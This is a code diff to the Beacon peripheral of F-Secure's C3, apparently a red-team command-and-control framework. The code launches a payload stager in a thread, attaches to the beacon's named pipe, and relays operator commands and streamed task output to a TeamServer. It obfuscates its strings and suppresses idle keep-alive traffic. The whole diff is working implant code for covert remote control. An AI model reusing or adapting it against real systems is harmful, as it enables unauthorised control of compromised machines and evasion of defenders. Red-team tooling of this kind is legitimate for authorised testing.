@@ -5,6 +5,7 @@ using namespace FSecure::Literals;
 
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
 FSecure::C3::Interfaces::Peripherals::Beacon::Beacon(ByteView arguments)
+	: m_PipeWait([this] { OnPipeReadable(); })
 {
 	auto [pipeName, maxConnectionTrials, delayBetweenConnectionTrials, payload] = arguments.Read<std::string, uint16_t, uint16_t, ByteView>();
 
@@ -25,21 +26,23 @@ FSecure::C3::Interfaces::Peripherals::Beacon::Beacon(ByteView arguments)
 	if (m_BeaconThread = CreateThread(NULL, 0, reinterpret_cast<LPTHREAD_START_ROUTINE>(sehWrapper), m_BeaconStager.Get(), 0, nullptr); m_BeaconThread == INVALID_HANDLE_VALUE)
 		throw std::runtime_error{ OBF("Couldn't run payload: ") + std::to_string(GetLastError()) + OBF(".") };
 
-	std::this_thread::sleep_for(std::chrono::milliseconds{ 30 }); // Give beacon thread time to start pipe.
-
-	// Connect to our Beacon named Pipe.
+	// Connect to our Beacon named Pipe as soon as beacon creates it.
 	for (uint16_t connectionTrial = 0u; connectionTrial < maxConnectionTrials; ++connectionTrial)
+	{
+		if (!WinTools::WaitForPipe(ByteView{ pipeName }, std::chrono::milliseconds{ delayBetweenConnectionTrials }))
+			continue;
+
 		try
 		{
-			m_Pipe = WinTools::AlternatingPipe{ ByteView{ pipeName } };
+			m_Pipe.emplace(ByteView{ pipeName });
 			return;
 		}
 		catch (std::exception& e)
 		{
-			// Sleep between trials.
+			// Other client took the pipe instance. Try again.
 			Log({ OBF_SEC("Beacon constructor: ") + e.what(), LogMessage::Severity::DebugInformation });
-			std::this_thread::sleep_for(std::chrono::milliseconds{ delayBetweenConnectionTrials });
 		}
+	}
 
 	// Throw a time-out exception.
 	throw std::runtime_error{OBF("Beacon creation failed")};
@@ -48,59 +51,132 @@ FSecure::C3::Interfaces::Peripherals::Beacon::Beacon(ByteView arguments)
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
 FSecure::C3::Interfaces::Peripherals::Beacon::~Beacon()
 {
+	// Pipe wait handler uses m_Pipe, so it has to finish first.
+	{
+		std::scoped_lock lock(m_Mutex);
+		m_Close = true;
+	}
+
+	m_PipeWait.Disarm();
+
 	// Check if thread already finished running and kill if otherwise
 	if (WaitForSingleObject(m_BeaconThread, 0) != WAIT_OBJECT_0)
 		TerminateThread(m_BeaconThread, 0);
 }
 
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+void FSecure::C3::Interfaces::Peripherals::Beacon::OnAttach(std::shared_ptr<AbstractDeviceBridge> const& bridge)
+{
+	Peripheral::OnAttach(bridge);
+	if (!std::exchange(m_IsServing, true))
+		WaitForBeacon();
+}
+
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
 void FSecure::C3::Interfaces::Peripherals::Beacon::OnCommandFromConnector(ByteView data)
 {
-	// Get access to write when whole reed is done.
-	std::unique_lock<std::mutex> lock{ m_Mutex };
-	m_ConditionalVariable.wait(lock, [this]() { return !m_ReadingState || m_Close; });
+	{
+		std::scoped_lock lock(m_Mutex);
+		if (m_Close)
+			return;
 
-	if (m_Close)
-		return;
+		if (!std::exchange(m_IsBeaconWaiting, false))
+		{
+			m_Commands.emplace_back(data);
+			return;
+		}
 
-	// Write
-	m_Pipe->Write(data);
+		m_IsAnswerDue = true;
+	}
 
-	// Unlock, and block writing until read is done.
-	m_ReadingState = true;
-	lock.unlock();
-	m_ConditionalVariable.notify_one();
+	try
+	{
+		m_Pipe->Write(data);
+		WaitForBeacon();
+	}
+	catch (std::exception& e)
+	{
+		Log({ OBF_SEC("Beacon pipe: ") + e.what(), LogMessage::Severity::Error });
+	}
 }
 
 ////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
 FSecure::ByteVector FSecure::C3::Interfaces::Peripherals::Beacon::OnReceiveFromPeripheral()
 {
-	// Get Access to reed after normal write.
-	std::unique_lock<std::mutex> lock{ m_Mutex };
-	m_ConditionalVariable.wait(lock, [this]() { return m_ReadingState || m_Close; });
+	return {};
+}
+
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+void FSecure::C3::Interfaces::Peripherals::Beacon::OnPipeReadable()
+{
+	try
+	{
+		// Beacon sends chunks of data until it has nothing more to say, then answers with no-op and waits for a command.
+		// Pipe is signaled, so the read doesn't wait for beacon. Long chunks, e.g. task output, are streamed to TeamServer, so they are never held whole in memory.
+		std::optional<ByteVector> chunk;
+		m_Pipe->ReadSegments(s_MaxCommandSegmentSize, [&](ByteView segment, uint32_t chunkSize, uint32_t offset)
+		{
+			if (segment.size() == chunkSize)
+				chunk = ByteVector{ segment };
+			else
+				GetBridge()->PostCommandSegmentToConnector(segment, chunkSize, offset);
+		});
+
+		auto isNoOp = chunk && IsNoOp(*chunk);
+		auto isAnswer = false;
+		{
+			std::scoped_lock lock(m_Mutex);
+			isAnswer = std::exchange(m_IsAnswerDue, false);
+		}
 
-	if (m_Close)
-		return {};
+		// Keep-alives are answered here, so that idle beacon makes no traffic. Only a no-op answering a command goes to TeamServer, which waits for it.
+		if (chunk && (!isNoOp || isAnswer))
+			GetBridge()->PostCommandToConnector(*chunk);
 
-	// Read
-	auto ret = m_Pipe->Read();
+		if (!isNoOp)
+		{
+			// Send no-op to beacon to get next chunk of data.
+			m_Pipe->Write("\0"_bv);
+			return WaitForBeacon();
+		}
 
-	if (IsNoOp(ret))
-	{
-		// Unlock, and block reading until write is done.
-		m_ReadingState = false;
-		lock.unlock();
-		m_ConditionalVariable.notify_one();
+		ByteVector command;
+		{
+			std::scoped_lock lock(m_Mutex);
+			if (m_Close)
+				return;
+
+			// Nothing to send yet. OnCommandFromConnector will write the next command.
+			if (m_Commands.empty())
+			{
+				m_IsBeaconWaiting = true;
+				return;
+			}
+
+			command = std::move(m_Commands.front());
+			m_Commands.pop_front();
+			m_IsAnswerDue = true;
+		}
+
+		m_Pipe->Write(command);
+		WaitForBeacon();
 	}
-	else
+	catch (std::exception& e)
 	{
-		// Continue in read mode. Send no-op to beacon to get next chunk of data.
-		m_Pipe->Write("\0"_bv);
+		Log({ OBF_SEC("Beacon pipe: ") + e.what(), LogMessage::Severity::Error });
 	}
+}
 
-	return  ret;
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
+void FSecure::C3::Interfaces::Peripherals::Beacon::WaitForBeacon()
+{
+	// Arming under the lock guarantees that nothing is armed after destructor disarms the wait.
+	std::scoped_lock lock(m_Mutex);
+	if (!m_Close)
+		m_PipeWait.Arm(m_Pipe->PrepareRead());
 }
 
+////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////////
 bool FSecure::C3::Interfaces::Peripherals::Beacon::IsNoOp(ByteView data)
 {
 	return data.size() == 1 && data[0] == 0u;
@@ -134,7 +210,7 @@ const char* FSecure::C3::Interfaces::Peripherals::Beacon::GetCapability()
 				"min": 30,
 				"defaultValue" : 1000,
 				"name": "Trials delay",
-				"description": "Time in milliseconds to wait between unsuccessful connection trails."
+				"description": "Maximal time in milliseconds to wait for the pipe in each connection trial."
 			}
 		]
 	},
@@ -146,9 +222,10 @@ const char* FSecure::C3::Interfaces::Peripherals::Beacon::GetCapability()
 void FSecure::C3::Interfaces::Peripherals::Beacon::Close()
 {
 	FSecure::C3::Device::Close();
-	std::scoped_lock lock(m_Mutex);
-	m_Close = true;
-	m_ConditionalVariable.notify_one();
+	{
+		std::scoped_lock lock(m_Mutex);
+		m_Close = true;
+	}
 }
 
 // Custom payload is removed from release.